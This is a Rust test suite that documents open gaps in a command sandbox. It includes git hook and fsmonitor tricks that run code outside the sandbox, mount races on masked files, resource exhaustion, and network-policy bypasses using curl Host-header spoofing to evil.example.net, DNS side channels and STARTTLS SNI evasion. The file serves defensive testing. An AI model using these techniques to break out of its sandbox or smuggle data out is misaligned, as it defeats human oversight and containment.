//! What is *not* stopped: each test shows a gap of `docs/known-gaps.md`. One that fails shows that the gap is closed:
//! then the test moves to `escape`, with the attack the other way round.

use crate::harness::canary::random_name;
use crate::harness::online::{heard, policy, set_policy};
use crate::harness::{Run, each_online, each_scene, host, internet, require};

#[test]
fn hard_link_planted_beforehand_to_a_file_that_is_only_hidden_can_be_written() {
    each_scene(|scene| {
        std::fs::hard_link(scene.at_home(".bashrc"), scene.at_work("notes.txt")).expect("a hard link");
        let outcome = scene.sandboxed(&Run::shell("echo changed >>notes.txt"));
        let target = std::fs::read_to_string(scene.at_home(".bashrc")).expect("a file");
        assert!(target.contains("changed"), "the gap is closed: {outcome}");
    });
}

#[test]
fn hooks_of_a_repository_below_the_workspace_can_be_changed() {
    each_scene(|scene| {
        scene.bare(&Run::shell("git init -q sub")).ok();
        let outcome = scene.sandboxed(&Run::shell("echo changed >sub/.git/hooks/pre-commit"));
        assert!(scene.at_work("sub/.git/hooks/pre-commit").exists(), "the gap is closed: {outcome}");
    });
}

#[test]
fn build_files_of_the_workspace_can_be_changed() {
    each_scene(|scene| {
        scene.write(&scene.at_work("Makefile"), "all:\n\ttrue\n");
        scene.sandboxed(&Run::shell("echo '\tchanged' >>Makefile")).ok();
        let target = std::fs::read_to_string(scene.at_work("Makefile")).expect("a file");
        assert!(target.contains("changed"), "the gap is closed");
    });
}

#[test]
fn repository_started_in_the_workspace_itself_brings_its_own_configuration() {
    each_scene(|scene| {
        let outcome = scene.sandboxed(&Run::shell("git init -q . && git config core.fsmonitor changed"));
        let target = std::fs::read_to_string(scene.at_work(".git/config")).unwrap_or_default();
        assert!(target.contains("changed"), "the gap is closed: {outcome}");
    });
}

/// Has a command change something, and then the person ask git about the workspace: that runs the command's program.
#[track_caller]
fn runs_when_the_person_asks_git(prepare: &str, script: &str, ask: &str) {
    each_scene(|scene| {
        scene.bare(&Run::shell(&format!("git init -q . && git commit -q --allow-empty -m x; {prepare}"))).ok();
        let outcome = scene.sandboxed(&Run::shell(script));
        drop(scene.bare(&Run::shell(ask)));
        assert!(scene.at_home("ran-outside").exists(), "the gap is closed: {outcome}");
    });
}

#[test]
fn repository_that_a_command_adds_to_the_index_is_asked_by_git_at_the_top() {
    runs_when_the_person_asks_git(
        "true",
        "git init -q sub && git -C sub commit -q --allow-empty -m x && git add sub && git -C sub config core.fsmonitor 'touch ~/ran-outside; false'",
        "git status",
    );
}

#[test]
fn hooks_in_a_folder_of_the_workspace_can_be_changed() {
    runs_when_the_person_asks_git(
        "git config core.hooksPath .githooks",
        "mkdir .githooks && printf '#!/bin/sh\\ntouch ~/ran-outside\\n' >.githooks/pre-commit && chmod +x .githooks/pre-commit",
        "git commit --allow-empty -m y",
    );
}

#[test]
fn file_that_the_configuration_of_git_includes_can_be_changed() {
    runs_when_the_person_asks_git(
        "git config include.path ../.gitconfig",
        "git config -f .gitconfig core.fsmonitor 'touch ~/ran-outside; false'",
        "git status",
    );
}

#[test]
fn configuration_of_a_bare_repository_that_is_the_workspace_can_be_changed() {
    each_scene(|scene| {
        scene.bare(&Run::shell("git init -q --bare .")).ok();
        let outcome = scene.sandboxed(&Run::shell("git config core.pager evil"));
        let target = std::fs::read_to_string(scene.at_work("config")).unwrap_or_default();
        assert!(target.contains("evil"), "the gap is closed: {outcome}");
    });
}

#[test]
fn settings_of_package_managers_and_version_managers_in_the_workspace_can_be_changed() {
    each_scene(|scene| {
        let names = [
            ".npmrc",
            ".yarnrc.yml",
            ".pnpmfile.cjs",
            "pip.conf",
            ".cargo/config.toml",
            "rust-toolchain.toml",
            ".tool-versions",
            "mise.toml",
            ".python-version",
            ".nvmrc",
            ".dir-locals.el",
            "conftest.py",
            ".pre-commit-config.yaml",
            ".husky/pre-commit",
            "gradle/wrapper/gradle-wrapper.properties",
            "Rakefile",
            "CMakeLists.txt",
            ".github/workflows/ci.yml",
        ];
        let words = [scene.attack().into_os_string(), "append-each".into(), "evil".into()];
        let words: Vec<_> = words.into_iter().chain(names.iter().map(Into::into)).collect();
        let outcome = scene.sandboxed(&Run::new(&words));
        for name in names {
            let content = std::fs::read_to_string(scene.at_work(name)).unwrap_or_default();
            assert!(content.contains("evil"), "the gap is closed for {name}: {outcome}");
        }
    });
}

#[test]
fn protected_name_that_is_a_symlink_can_be_removed_but_not_made_again() {
    each_scene(|scene| {
        scene.write(&scene.at_work("real.json"), "{}\n");
        std::os::unix::fs::symlink("real.json", scene.at_work(".mcp.json")).expect("a symlink");
        let outcome = scene.sandboxed(&Run::shell("rm .mcp.json; echo '{\"changed\":1}' >.mcp.json"));
        assert!(
            std::fs::symlink_metadata(scene.at_work(".mcp.json")).is_err(),
            "the gap is closed, or wider: {outcome}"
        );
    });
}

/// Runs a command, and has a program outside rename another file over `name` once it says so by `ready`.
fn replaced_outside(scene: &crate::harness::Scene, name: &str, content: &str, run: &Run) -> crate::harness::Outcome {
    let (place, ready, new) = (scene.at_work(name), scene.at_work("ready"), scene.at_home("new"));
    scene.write(&new, content);
    let outside = std::thread::spawn(move || {
        for _ in 0..9000 {
            if ready.exists() {
                return std::fs::rename(&new, &place).expect("it can be renamed");
            }
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
    });
    let outcome = scene.sandboxed(run);
    outside.join().expect("it was renamed");
    outcome
}

#[test]
fn masked_file_that_is_replaced_outside_is_seen_by_the_command_that_runs() {
    each_scene(|scene| {
        scene.write(&scene.at_work("prod.env"), "old\n");
        let mask = scene.at_work("prod.env").into_os_string();
        // For a moment the mount is gone, and the old file is still there.
        let script =
            "touch ready; for i in $(seq 3000); do grep -v '^old$' prod.env 2>/dev/null && break; sleep 0.02; done";
        let run = Run::shell(script).flags(&["--mask".into(), mask]);
        let outcome = replaced_outside(scene, "prod.env", scene.canary.text(), &run);
        assert!(scene.canary.is_in(&outcome.stdout), "the gap is closed: {outcome}");
        let next = scene.sandboxed(&Run::shell("cat prod.env").flags(&run.flags));
        assert!(!scene.canary.is_in(&next.stdout), "the next command finds it masked: {next}");
    });
}

#[test]
fn protected_file_that_is_replaced_outside_can_be_written_by_the_command_that_runs() {
    each_scene(|scene| {
        scene.write(&scene.at_work(".mcp.json"), "{}\n");
        // For a moment the mount is gone, and the old file is still there: what is written then goes with it.
        let script = "touch ready; for i in $(seq 3000); do grep -q new .mcp.json && echo changed >>.mcp.json && break; \
                      sleep 0.02; done 2>/dev/null";
        let outcome = replaced_outside(scene, ".mcp.json", "{\"new\": 1}\n", &Run::shell(script));
        let content = std::fs::read_to_string(scene.at_work(".mcp.json")).unwrap_or_default();
        assert!(content.contains("changed"), "the gap is closed: {outcome}");
    });
}

#[test]
fn file_that_is_the_standard_output_can_be_emptied() {
    each_scene(|scene| {
        let log = scene.at_home("log");
        scene.write(&log, "what was there before\n");
        let outer = ["/bin/sh", "-c", "exec \"$@\" >>~/log", "sh"].map(Into::into).to_vec();
        let run = Run::new(&["/usr/bin/python3", "-c", "import os; os.ftruncate(1, 0); os.write(1, b'forged')"]);
        let outcome = scene.sandboxed(&Run { outer, ..run });
        assert_eq!(std::fs::read_to_string(&log).expect("a file"), "forged", "the gap is closed: {outcome}");
    });
}

#[test]
fn lock_on_a_file_that_is_only_read_holds_a_program_outside_up() {
    each_scene(|scene| {
        scene.write(&scene.at_home(".gitconfig"), "[user]\n");
        let mut child =
            scene.start_sandboxed(&Run::shell("exec 9<~/.gitconfig; flock -s 9 && echo HELD; exec sleep 600"));
        let out = std::io::BufReader::new(child.stdout.take().expect("stdout is piped"));
        let held = std::io::BufRead::lines(out).map_while(Result::ok).any(|line| line == "HELD");
        let outside = scene.bare(&Run::shell("flock -x -n ~/.gitconfig true"));
        drop(child.kill());
        drop(child.wait());
        assert!(held && outside.status != 0, "the gap is closed: {outside}");
    });
}

#[test]
fn memory_that_belongs_to_no_process_is_not_counted() {
    for kind in ["memfd", "sysv"] {
        each_scene(|scene| {
            let words = [scene.attack().into_os_string(), "shared-memory".into(), kind.into(), "60000000".into()];
            let outcome = scene.sandboxed(&Run::new(&words).flags(&["--limit", "memory=32MiB"]));
            assert!(outcome.out().contains("GOT "), "the gap is closed: {outcome}");
        });
    }
}

#[test]
fn workspace_has_no_quota() {
    each_scene(|scene| {
        let words = [scene.attack().into_os_string(), "fill".into(), "big".into(), "30000000".into()];
        let outcome = scene.sandboxed(&Run::new(&words).flags(&["--limit", "tmpfs=8MiB"]));
        assert!(outcome.out().contains("GOT "), "the gap is closed: {outcome}");
    });
}

#[test]
fn timers_inside_count_for_the_callers_other_processes() {
    each_scene(|scene| {
        let pid = scene.victim().pid();
        let signals = move || {
            let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("its status");
            let line =
                status.lines().find_map(|line| line.strip_prefix("SigQ:")).expect("its signals").trim().to_owned();
            line.split('/').next().and_then(|count| count.parse::<u32>().ok()).expect("a number")
        };
        let helper = scene.attack();
        let script = format!("exec '{}' timer-bomb 400 wait", helper.display());
        let mut child = scene.start_sandboxed(&Run::shell(&script));
        let out = std::io::BufReader::new(child.stdout.take().expect("stdout is piped"));
        let said = std::io::BufRead::lines(out).map_while(Result::ok).any(|line| line.starts_with("MADE"));
        let counted = signals();
        child.kill().expect("it can be killed");
        child.wait().expect("it can be waited for");
        assert!(said && counted >= 400, "the gap is closed: {counted}");
    });
}

/// Runs a script in the sandbox in the suite's own internet, with these hosts allowed; it gets the canary.
#[track_caller]
fn gets_the_canary(hosts: &[&str], script: &str) {
    if !require(&["curl"]) || host::only_bare() {
        return;
    }
    each_online(|scene| {
        set_policy(scene, &policy(hosts));
        let outcome = scene.sandboxed(&crate::network::trusting(script));
        assert!(scene.canary.is_in(&outcome.stdout), "the gap is closed: {outcome}");
    });
}

#[test]
fn another_host_of_the_same_server_can_be_asked_for_inside_of_tls() {
    gets_the_canary(&["web.example.com"], "curl -sS -H 'Host: evil.example.net' https://web.example.com/");
}

#[test]
fn another_authority_on_a_connection_of_http_2_is_not_seen() {
    if internet().is_some_and(|internet| internet.has("h2")) {
        let script = "curl -sS --http2 https://h2.example.com:8444/ --next -sS --http2 -H 'Host: evil.example.net' https://h2.example.com:8444/secret.html";
        gets_the_canary(&["h2.example.com:8444"], script);
    }
}

#[test]
fn allowed_host_that_relays_leads_on() {
    gets_the_canary(&["web.example.com"], "curl -sS https://web.example.com/relay/evil.example.net");
}

#[test]
fn name_below_an_allowed_wildcard_tells_its_nameserver_something() {
    if host::only_bare() {
        return;
    }
    each_online(|scene| {
        set_policy(scene, &policy(&["*.wild.example.com:80"]));
        let word = random_name();
        let outcome = scene.sandboxed(&Run::shell(&format!("~/.local/bin/attack fetch {word}.wild.example.com 80 /")));
        assert!(heard(&["dns", &word]), "the gap is closed: {outcome}");
    });
}

#[test]
fn when_and_how_often_an_allowed_host_is_asked_tells_it_something() {
    if host::only_bare() {
        return;
    }
    each_online(|scene| {
        set_policy(scene, &policy(&["web.example.com:80"]));
        let word = random_name();
        let script =
            format!("for i in 1 2 3; do ~/.local/bin/attack fetch web.example.com 80 /{word}; sleep 0.1; done");
        let outcome = scene.sandboxed(&Run::shell(&script));
        assert!(heard(&["http", &word]), "the gap is closed: {outcome}");
    });
}

/// Talks to `web.example.com:7007`, which says everything back, by Python; the word `passed` shows the gap.
#[track_caller]
fn passes_an_echo(program: &str) {
    if host::only_bare() {
        return;
    }
    each_online(|scene| {
        set_policy(scene, &policy(&["web.example.com:7007"]));
        scene.write(&scene.at_work("talk.py"), program);
        let outcome = scene.sandboxed(&Run::shell("/usr/bin/python3 talk.py"));
        assert!(outcome.out().contains("passed"), "the gap is closed: {outcome}");
    });
}

#[test]
fn name_of_tls_that_begins_after_other_words_is_not_looked_at() {
    passes_an_echo(
        "import socket, ssl\n\
         incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()\n\
         tls = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname='evil.example.net')\n\
         try: tls.do_handshake()\n\
         except ssl.SSLWantReadError: pass\n\
         hello = outgoing.read()\n\
         def talk(*words):\n\
         \x20   with socket.create_connection(('web.example.com', 7007), 60) as s:\n\
         \x20       for word in words:\n\
         \x20           s.sendall(word)\n\
         \x20           back = b''\n\
         \x20           while len(back) < len(word):\n\
         \x20               part = s.recv(65536)\n\
         \x20               if not part: return False\n\
         \x20               back += part\n\
         \x20           if back != word: return False\n\
         \x20       return True\n\
         try: first = talk(hello)\n\
         except OSError: first = False\n\
         assert not first, 'at the beginning of a connection it is looked at'\n\
         print('passed' if talk(b'STARTTLS\\r\\n', hello) else 'refused')\n",
    );
}

#[test]
fn http_2_without_tls_on_another_port_than_80_is_not_looked_into() {
    passes_an_echo(
        "import socket\n\
         preface = b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + bytes(3) + b'\\x04' + bytes(5)\n\
         with socket.create_connection(('web.example.com', 7007), 60) as s:\n\
         \x20   s.sendall(preface)\n\
         \x20   back = b''\n\
         \x20   while len(back) < len(preface):\n\
         \x20       part = s.recv(65536)\n\
         \x20       if not part: break\n\
         \x20       back += part\n\
         print('passed' if back == preface else 'refused')\n",
    );
}

#[test]
fn server_inside_at_every_address_answers_in_the_place_of_an_allowed_host() {
    passes_an_echo(
        "import socket, threading\n\
         server = socket.create_server(('::', 7007), family=socket.AF_INET6, dualstack_ipv6=True)\n\
         threading.Thread(target=lambda: server.accept()[0].sendall(b'passed'), daemon=True).start()\n\
         print(socket.create_connection(('web.example.com', 7007), 60).recv(64).decode())\n",
    );
}

#[test]
fn server_that_comes_later_cannot_have_every_address_of_a_port_that_was_connected_to() {
    passes_an_echo(
        "import socket\n\
         socket.create_connection((socket.gethostbyname('web.example.com'), 7007), 60)\n\
         socket.create_server(('127.0.0.1', 7007)).close()\n\
         try: socket.create_server(('0.0.0.0', 7007))\n\
         except OSError: print('passed')\n",
    );
}
